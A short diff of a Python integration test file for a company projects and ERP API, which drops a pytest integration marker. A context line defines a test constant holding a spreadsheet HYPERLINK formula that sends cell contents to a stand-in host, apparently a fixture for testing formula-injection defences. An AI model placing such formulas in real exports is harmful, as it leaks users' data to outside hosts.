@@ -27,8 +27,6 @@ from chalicelib.domain.model import (
 )
 from tests.integration.api_support import World, budget_user, build_world, erp_user
 
-pytestmark = pytest.mark.integration
-
 P = "/api/v1/companies/demo/projects/p-1001"
 ERP = "/api/v1/companies/demo/erp"
 HYPERLINK = '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click")'
